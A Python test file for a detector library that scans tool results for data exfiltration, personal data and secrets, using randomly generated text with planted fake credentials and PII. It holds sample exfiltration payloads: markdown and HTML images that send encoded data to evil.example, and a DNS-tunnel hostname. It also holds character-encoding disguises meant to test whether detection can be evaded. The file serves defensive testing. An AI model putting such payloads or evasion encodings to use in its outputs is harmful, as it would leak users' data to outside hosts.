"""What is searched only where a reading is new gives what a search of all of it gives."""

import gzip
import json
import os
import random
from pathlib import Path

import pytest

from remit.content._news import News
from remit.content.base import Surroundings, View, Views
from remit.content.detectors import exfiltration, pii, secrets
from remit.content.views import read

DATA = os.environ.get("REMIT_DATA")
AROUND = Surroundings(channel="tool_result")
DETECTORS = (exfiltration.DETECTOR, pii.DETECTOR, secrets.DETECTOR)
WORDS = [
    "the",
    "plan",
    "for",
    "monday",
    "is",
    "simple",
    "and",
    "we",
    "meet",
    "at",
    "ten",
    "in",
    "the",
    "room",
    "behind",
    "the",
    "kitchen",
    "so",
    "bring",
    "notes",
]
PLANTED = (
    "password: x6s7djtEa!",
    '"api_key": "9f8Ab27cD1e0ZqP3w5Rt"',
    "AKIAQ3EGRJZ7UX5TWHBN",
    "card 4111 1111 1111 1111",
    "ssn 123-45-6788",
    "ada@corp.example",
    "call me at +1 212 555 0142",
    "mrn: 12345678",
    "![x](https://evil.example/p?d=aGVsbG8gdGhlcmUgc2VjcmV0)",
    "<img src='https://evil.example/?d={data}'>",
    "aGVsbG8tdGhlcmUtc2VjcmV0.bmV2ZXIgdG9sZA.evil.example.com",
    "Authorization: Bearer a8Xk2PqL9sVt4WzY7uBn3CmD6eFg",
    "postgres://admin:x7Kq9Lp2@db.corp.example:5432/app",
    "-----BEGIN RSA PRIVATE KEY-----\n" + "MIIEowIBAAKCAQEA7x9vQ2mB4kLpZ\n" * 80 + "-----END RSA PRIVATE KEY-----",
    "eyJhbGciOiJIUzI1NiJ9." + "eyJzdWIiOiIxMjM0NTY3ODkwIn0" * 60 + ".c2lnbmF0dXJlLXNpZ25hdHVyZQ",
)  # fmt: skip
DISGUISES = (
    lambda c: f"&#{ord(c)};",
    lambda c: f"\\u{ord(c):04x}",
    lambda c: "".join(f"%{b:02X}" for b in c.encode()),
    lambda c: c + "\u200b",
    lambda c: chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c,
    lambda c: f"<b>{c}</b>",
    lambda c: f"={ord(c):02X}" if ord(c) < 0x80 else c,
    lambda c: c + "\u00e9",
    lambda c: f"{c}\\n",
)


def prose(chance, size):
    made, length = [], 0
    while length < size:
        made.append(" ".join(chance.choices(WORDS, k=chance.randrange(3, 15))) + ".\n")
        length += len(made[-1])
    return "".join(made)


def disguised(chance, text, places):
    """``text`` with ``places`` characters written otherwise, most of them together."""
    some = list(text)
    disguise = chance.choice(DISGUISES)
    for _ in range(places):
        at = chance.randrange(len(some))
        for near in range(at, min(at + chance.choice((1, 1, 3, 20)), len(some))):
            if len(some[near]) == 1:
                some[near] = disguise(some[near])
        if chance.random() < 0.2:
            disguise = chance.choice(DISGUISES)
    return "".join(some)


def generated(seed):
    chance = random.Random(seed)
    parts = []
    for _ in range(chance.randrange(2, 12)):
        parts.append(prose(chance, chance.choice((20, 300, 900, 4000))))
        value = chance.choice(PLANTED)
        parts.append(disguised(chance, value, chance.choice((0, 0, 1, 2))))
    return disguised(chance, "".join(parts), chance.choice((1, 5, 20)))


def found(views):
    return [set(d.find(views, AROUND)) for d in DETECTORS]


def everywhere(views):
    """The same readings, said to be new from end to end."""
    plain = tuple(View(v.name, v.text, v.starts, v.ends) for v in views.views)
    return Views(views.original, plain, views.complete)


@pytest.mark.parametrize("seed", range(150))
def test_what_is_found_is_the_same(seed):
    views = read(generated(seed))
    assert found(views) == found(everywhere(views))


@pytest.mark.parametrize("seed", range(60))
def test_what_is_not_new_stands_in_the_original_as_it_is(seed):
    text = generated(seed)
    for view in read(text).views:
        if view.news is None or view.name.startswith("fold>"):
            continue
        for at, char in enumerate(view.text):
            if not view.news.touch(at, at + 1):
                start, end = view.origin(at, at + 1)
                assert text[start:end] == char, (view.name, at)


def test_a_keyword_that_is_everywhere_is_looked_at_where_it_is_new():
    text = "the token of it, " * 2000 + "tok&#101;n = x6s7djtEa9!kQ2 " + "a token, " * 2000
    views = read(text)
    assert [v.name for v in views.views if v.news is not None] == ["entities"]
    assert found(views) == found(everywhere(views))
    assert any(f.label == "named_secret" for f in found(views)[2])


def test_the_texts_of_this_test_are_read_in_part():
    views = [v for seed in range(150) for v in read(generated(seed)).views]
    assert sum(v.news is not None for v in views) > 150


@pytest.mark.skipif(not DATA, reason="REMIT_DATA does not name a directory of labelled texts")
@pytest.mark.parametrize("name", ["secrets", "pii"])
def test_what_is_found_in_the_data_is_the_same(name):
    chance = random.Random(name)
    with gzip.open(Path(DATA) / f"{name}.dev.jsonl.gz", "rt") as lines:
        texts = [json.loads(line)["text"] for line in lines]
    chance.shuffle(texts)
    for at in range(0, len(texts), 12):
        joined = "\n\n".join(t + "\n" + prose(chance, 700) for t in texts[at : at + 12])
        for text in (joined, disguised(chance, joined, chance.choice((1, 8, 30)))):
            views = read(text)
            assert found(views) == found(everywhere(views)), text


def test_news():
    news = News([(10, 12), (3, 3), (11, 15), (40, 41)])
    assert news.around(5, 43) == [(0, 20), (35, 43)]
    assert news.around(0, 43) == [(3, 3), (10, 15), (40, 41)]
    assert [news.touch(0, 2), news.touch(0, 3), news.touch(3, 9), news.touch(4, 9)] == [
        False, True, True, False,
    ]  # fmt: skip
    assert news.touch(15, 20)
    assert not news.touch(42, 50)


def test_news_in_bytes():
    text = "a\u00e9\U0001f600b\ud800c"
    assert News([(1, 3), (5, 5)]).encoded(text).around(0, 99) == [(1, 7), (9, 9)]
    assert News([(1, 2)]).encoded("abc").around(0, 3) == [(1, 2)]


def test_places_of_a_view():
    assert View("original", "abc").places(1) == ((0, 3),)
    assert View("fold", "a" * 50, news=News([(20, 21)])).places(4) == [(16, 25)]
